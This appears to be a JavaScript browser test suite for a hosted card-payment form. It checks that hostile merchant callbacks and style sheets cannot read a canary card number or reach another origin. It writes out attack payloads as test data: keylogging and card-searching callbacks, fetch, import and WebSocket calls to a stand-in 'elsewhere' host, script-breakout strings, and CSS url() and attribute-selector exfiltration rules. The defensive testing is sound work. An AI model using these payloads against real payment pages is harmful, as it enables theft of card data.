// Callbacks and style sheets of a hostile merchant: none of them gets at a number or a code.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import * as b from "./lib/browser.mjs";
import { startCardamom } from "./lib/cardamom.mjs";
import { CANARY, PAGE_ROOTS, SEARCH, WORKER_ROOTS, holdsCanary } from "./lib/hostile.mjs";
import { startElsewhere, startShop } from "./lib/sites.mjs";

let server, merchant, shop, elsewhere, browser;

before(async () => {
  // One capture a minute: a refusal that leaves the filled form in place can then be had at will.
  const limits = { env: { CARDAMOM_MAX_PER_MINUTE: "1", CARDAMOM_LOG: "debug" } };
  server = await startCardamom(limits);
  [shop, elsewhere] = [await startShop(), await startElsewhere()];
  browser = await b.launch();
  merchant = await server.merchant("Hostile");
});
after(() => Promise.all([browser?.close(), shop?.stop(), elsewhere?.stop(), server?.stop()]));

const ways = { "with wasm": true, "with wasm blocked": false };

/** Opens pages in the shop's frames, and checks afterwards that the canary arrived nowhere. */
async function visitShop({ urls, wasm = true }, use) {
  await b.withPage(browser, async (page, opened) => {
    if (!wasm) await b.blockWasm(opened.context);
    await page.goto(shop.framing(...urls));
    if (wasm) for (const index of urls.keys()) await b.hydrated(b.inFrame(page, index));
    await use(page, opened);
    if (page.url().startsWith(shop.url)) assertClean(await b.messages(page), "messages");
    assertClean(opened.log, "the console");
  });
  assertClean(elsewhere.requests, "requests elsewhere");
  assertClean(shop.requests, "requests at the shop");
  assertClean(server.output, "the server's log");
}

function assertClean(found, where) {
  assert.equal(holdsCanary(JSON.stringify(found)), false, `the canary is in ${where}`);
}

/** A report says that everything was looked at and nothing found. */
function assertNothingFound(report) {
  assert.deepEqual(report.hits, []);
  assert.ok(report.visited > 100, `only ${report.visited} values were looked at`);
}

function reportsOf(page) {
  return b.messages(page, "hostile").then((all) => all.map(({ data }) => data));
}

/** Takes the endpoint's one capture of this minute, with enough of the minute left to submit a form. */
async function occupy(endpoint) {
  await b.eventually(() => new Date().getSeconds() < 55, "the next minute");
  const headers = { "X-Capture-Secret": endpoint.secret };
  const body = JSON.stringify({ card_number: b.CARD.number });
  assert.equal((await fetch(server.url + endpoint.url, { method: "POST", headers, body })).status, 200);
}

// ---- The search itself

test("the search finds a canary that can be reached", async () => {
  await b.withPage(browser, async (page) => {
    const found = await page.evaluate(`{ ${SEARCH}
      search({ plain: () => ({ a: { b: "3782 8224 6310 005" } }), text: () => ["7391"], none: () => "no" }) }`);
    assert.deepEqual(found.hits.sort(), ["plain.a.b", "text.0"]);
  });
});

// ---- In the worker

for (const [way, wasm] of Object.entries(ways)) {
  test(`a success callback in the worker finds no canary, ${way}`, async () => {
    const success_callback = `function (response, request) {
      const args = arguments; ${SEARCH}
      const found = search(${WORKER_ROOTS});
      console.log("hostile", JSON.stringify(found));
      parent.postMessage(Object.assign({ type: "hostile" }, found), "*");
      const real = (function () { return this; })();
      found.reach = ["fe" + "tch", "XMLHttp" + "Request", "Web" + "Socket", "Event" + "Source", "importScripts", "Worker",
        "indexedDB", "caches", "BroadcastChannel", "postMessage", "navigator"].filter((name) => name in real);
      import("${elsewhere.url}/module").catch(() => 0).then(() => {
        location.href = "${elsewhere.url}/report?found=" + encodeURIComponent(JSON.stringify(found));
      });
    }`;
    const { url, form } = await merchant.page({ success_callback, allowed_origins: [shop.url] });
    assert.equal(form.callback_runner, "worker");
    const other = await merchant.page();
    elsewhere.requests.length = 0;
    await visitShop({ urls: [url, other.url], wasm }, async (page) => {
      // The sibling holds a number that was typed and not sent.
      await b.fillCard(b.inFrame(page, 1), CANARY);
      await b.fillCard(b.inFrame(page, 0), CANARY);
      await b.submit(b.inFrame(page, 0));
      await b.inFrame(page, 0).locator("h1", { hasText: "Elsewhere" }).waitFor();
      assertNothingFound((await reportsOf(page))[0]);
    });
    assert.deepEqual(elsewhere.visits().map(({ path }) => path), ["/report"]);
    const report = JSON.parse(elsewhere.visits()[0].query.get("found"));
    assertNothingFound(report);
    assert.deepEqual(report.reach, []);
  });

  test(`an error callback learns nothing while the person types on, ${way}`, async () => {
    const error_callback = `function (error) {
      const args = arguments; ${SEARCH}
      const keys = [];
      addEventListener("keydown", (event) => keys.push(event.key));
      addEventListener("input", (event) => keys.push(event.data));
      let round = 0;
      setInterval(() => {
        for (const view of [window, self, parent, top, frames]) try { view.focus(); } catch (refused) {}
        if (round < 18) {
          round += 1;
          parent.postMessage(Object.assign({ type: "hostile", round: round, keys: keys }, search(${WORKER_ROOTS})), "*");
        }
      }, 250);
    }`;
    const { url, endpoint } = await merchant.page({ error_callback, allowed_origins: [shop.url] });
    await visitShop({ urls: [url], wasm }, async (page, { context }) => {
      const frame = b.inFrame(page);
      await b.fillCard(frame, CANARY);
      await occupy(endpoint);
      await b.submit(frame);
      const reports = () => reportsOf(page);
      await b.eventually(async () => (await reports()).length > 0, "the first report");
      const number = b.input(frame, "card_number");
      await number.fill("");
      await number.pressSequentially(CANARY.number);
      // Every digit went where the person typed.
      assert.equal((await number.inputValue()).replaceAll(/\D/g, ""), CANARY.number);
      const { round } = (await reports()).at(-1);
      await b.eventually(async () => (await reports()).at(-1).round > round, "a report after the typing");
      for (const report of await reports()) {
        assertNothingFound(report);
        assert.deepEqual(report.keys, []);
      }
      // There is no frame in the card page, hidden or not.
      assert.equal(page.frames().length, 2);
      assert.deepEqual(context.serviceWorkers(), []);
    });
  });
}

test("a callback that breaks out of its wrapping reaches no other origin", async () => {
  const told = `(() => console.log("reached"), () => console.log("refused"))`;
  const breakouts = [
    // Evaluated as a further argument, before the room has been emptied.
    `0; } }, self["fe" + "tch"]("${elsewhere.url}/early").then${told}, function () { { 0`,
    `0; } }, import("${elsewhere.url}/early-module").then${told}, function () { { 0`,
    `0; } }, Object.assign(new (self["Web" + "Socket"])("${elsewhere.url.replace("http", "ws")}/socket"), {
       onopen: () => console.log("reached"), onerror: () => console.log("refused") }), function () { { 0`,
    `0; } }, importScripts("${elsewhere.url}/early-script"), function () { { 0`,
    // A statement of the worker itself, afterwards.
    `0; } }); globalThis["fe" + "tch"]?.("${elsewhere.url}/late");
     import("${elsewhere.url}/late-module").then${told}; (function () { { 0`,
    // Out of the script altogether.
    `</script><script src="${elsewhere.url}/script"></script>`,
    `0 } }) ; <!-- ${elsewhere.url}`,
  ];
  for (const success_callback of breakouts) {
    const { url, form } = await merchant.page({ success_callback });
    assert.equal(form.callback_runner, "worker");
    elsewhere.requests.length = 0;
    await visitShop({ urls: [url] }, async (page, { log }) => {
      await b.fillCard(b.inFrame(page), CANARY);
      await b.submit(b.inFrame(page));
      await b.inFrame(page).locator("h1", { hasText: "Card saved" }).waitFor();
      // What cannot start in the worker is tried in the done page, where it is no script either.
      const ended = () => log.some((line) => /^(refused|reached|cardamom: the callback failed)$|SyntaxError/.test(line));
      await b.eventually(ended, `the end of ${success_callback}`);
      assert.equal(log.includes("reached"), false, success_callback);
      // Whatever was on its way has arrived before this.
      await page.goto(`${elsewhere.url}/last`);
    });
    assert.deepEqual(elsewhere.visits().map(({ path }) => path), ["/last"]);
  }
});

test("a form whose callbacks need a document runs none of them while the card is in the page", async () => {
  const error_callback = `() => { document.body.append(document.createElement("input")); }`;
  const { url, endpoint, form } = await merchant.page({ error_callback, allowed_origins: [shop.url] });
  assert.equal(form.callback_runner, "done_page");
  await visitShop({ urls: [url] }, async (page) => {
    const frame = b.inFrame(page);
    await b.fillCard(frame, CANARY);
    await occupy(endpoint);
    await b.submit(frame);
    await b.eventually(async () => (await b.messages(page, "cardamom:error")).length, "the message of the error");
    assert.equal(page.workers().length, 0);
    assert.equal(page.frames().length, 2);
    assert.equal(await frame.locator("input[type=text]").count(), 4);
  });
});

// ---- In the done page

for (const [way, wasm] of Object.entries(ways)) {
  test(`a success callback in the done page finds no canary, ${way}`, async () => {
    const other = await merchant.page();
    const success_callback = `async function (response, request) {
      const args = arguments; ${SEARCH}
      const tell = (more) => parent.postMessage(Object.assign({ type: "hostile" }, more), "*");
      const tried = {};
      const attempt = async (name, act) => {
        try { tried[name] = String(await act()); } catch (refused) { tried[name] = "refused"; }
      };
      const frame = (address) => new Promise((done) => {
        const element = document.createElement("iframe");
        element.onload = () => {
          let inside = "closed";
          try { inside = element.contentWindow.document.documentElement.outerHTML; } catch (refused) {}
          done(inside.includes("card_number") ? "open" : "closed");
        };
        element.src = address;
        document.body.append(element);
      });
      await attempt("frame of a form", () => frame(${JSON.stringify(other.url)}));
      await attempt("open again", () => window.open(${JSON.stringify(other.url)}));
      await attempt("open into the sibling", () => window.open("${elsewhere.url}/phish", "card1"));
      await attempt("lead the sibling away", () => { parent.frames[1].location = "${elsewhere.url}/phish"; return "left"; });
      await attempt("service worker", () => navigator.serviceWorker.register("/assets/page.js").then(() => "registered"));
      await attempt("worker", () => new Promise((done, failed) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        worker.onmessage = () => done("ran"); worker.onerror = failed;
      }));
      await attempt("read a form", () => fetch(${JSON.stringify(other.url)}).then((answer) => answer.text()));
      await attempt("send elsewhere", () => fetch("${elsewhere.url}/sent").then(() => "sent"));
      await attempt("import", () => import("${elsewhere.url}/module").then(() => "ran"));
      await attempt("import data", () => import("data:text/javascript,export default 1").then(() => "ran"));
      await attempt("script element", () => new Promise((done, failed) => {
        const element = document.createElement("script");
        Object.assign(element, { src: "${elsewhere.url}/script", onload: () => done("ran"), onerror: failed });
        document.body.append(element);
      }));
      await attempt("inline script", () => {
        const element = document.createElement("script");
        Object.assign(element, { textContent: "window.ran = 1", nonce: document.querySelector("style").nonce });
        document.body.append(element);
        return window.ran ? "ran" : Promise.reject();
      });
      await attempt("eval", () => (0, eval)("'ran'"));
      await attempt("top without a click", () => { top.location.href = "${elsewhere.url}/top"; return "tried"; });
      for (const take of [() => window.focus(), () => document.body.focus()]) take();
      tell(Object.assign({ tried: tried }, search(${PAGE_ROOTS})));
    }`;
    const { url, form } = await merchant.page({ success_callback });
    assert.equal(form.callback_runner, "done_page");
    elsewhere.requests.length = 0;
    await visitShop({ urls: [url, other.url], wasm }, async (page, { context }) => {
      const sibling = b.inFrame(page, 1);
      await b.fillCard(sibling, CANARY);
      await b.fillCard(b.inFrame(page, 0), CANARY);
      await b.submit(b.inFrame(page, 0));
      await b.eventually(async () => (await reportsOf(page)).length > 0, "the report");
      const [report] = await reportsOf(page);
      assertNothingFound(report);
      assert.deepEqual(report.tried, {
        "frame of a form": "closed",
        "open again": "null",
        "open into the sibling": "null",
        "lead the sibling away": "refused",
        "service worker": "refused",
        worker: "refused",
        "read a form": "refused",
        "send elsewhere": "refused",
        import: "refused",
        "import data": "refused",
        "script element": "refused",
        "inline script": "refused",
        eval: "refused",
        "top without a click": "refused",
      });
      assert.match(page.url(), /\?frame=/);
      assert.equal((await b.input(sibling, "card_number").inputValue()).replaceAll(/\D/g, ""), CANARY.number);
      assert.equal(context.pages().length, 1);
      assert.deepEqual(context.serviceWorkers(), []);
    });
    assert.deepEqual(elsewhere.visits(), []);
  });
}

test("a done page that goes back finds an empty form", async () => {
  const success_callback = `() => { document.title = "done"; }`;
  const { url } = await merchant.page({ success_callback });
  await b.withPage(browser, async (page) => {
    await page.goto(url);
    await b.hydrated(page);
    await b.fillCard(page, CANARY);
    await b.submit(page);
    await page.waitForURL(/\/done\//);
    await page.goBack();
    await page.locator("#cardamom-form").waitFor();
    assert.equal(await b.input(page, "card_number").inputValue(), "");
    assert.equal(await b.input(page, "cvv").inputValue(), "");
  });
});

// ---- Style sheets

test("a hostile style sheet styles the page and reaches no other origin", async () => {
  const at = (name) => `${elsewhere.url}/${name}`;
  const digits = [..."0123456789"].map((digit) => `input[value^="${digit}"]{background:url(${at(`begins-${digit}`)})}`);
  const embedded_css = `
    @charset "utf-8"; @import "${at("import")}"; @import url(${at("import-url")}); @im\\port "${at("escaped-import")}";
    @font-face { font-family: spy; src: url(${at("font")}); unicode-range: U+30-39 }
    @namespace "${at("namespace")}";
    input { font-family: spy; background: url("${at("background")}"), URL(${at("upper")}); cursor: url(${at("cursor")}), auto }
    input { background-image: \\75rl(${at("escape")}); list-style-image: u\\72 l("${at("escape2")}") }
    body { background: image-set("${at("image-set")}" 1x); background: -webkit-image-set(url(${at("webkit-set")}) 1x) }
    body { --spy: url(${at("variable")}); background-image: var(--spy); mask: url(${at("mask")}#a); filter: url(${at("filter")}#a) }
    body::before { content: url(${at("content")}) } body::after { content: image("${at("image")}"); background: src("${at("src")}") }
    body { border-image: cross-fade(url(${at("fade")}), red, 50%) 1; offset-path: url(${at("path")}); clip-path: url(${at("clip")}) }
    @media all { @import "${at("nested")}"; @supports (display: grid) { h1 { background: url(${at("nested-url")}) } } }
    @property --p { syntax: "<url>"; inherits: false; initial-value: url(${at("property")}) }
    /* </style><script src="${at("comment-script")}"></script> */
    a { color: "</style><img src='${at("string-image")}'>" } } </style><link rel=stylesheet href="${at("link")}"><style>
    ${digits.join("\n")}
    #cardamom-submit { background-color: rgb(1, 2, 3) }`;
  const { url } = await merchant.page({ embedded_css }, { reference: "styled" });
  elsewhere.requests.length = 0;
  await visitShop({ urls: [url] }, async (page) => {
    const frame = b.inFrame(page);
    await b.fillCard(frame, CANARY);
    const colour = await frame.locator("#cardamom-submit").evaluate((button) => getComputedStyle(button).backgroundColor);
    assert.equal(colour, "rgb(1, 2, 3)");
    assert.equal(await frame.locator("link[rel=stylesheet], img, script[src*='script']").count(), 0);
    await b.submit(frame);
    await b.saved(frame);
  });
  assert.deepEqual(elsewhere.visits(), []);
});
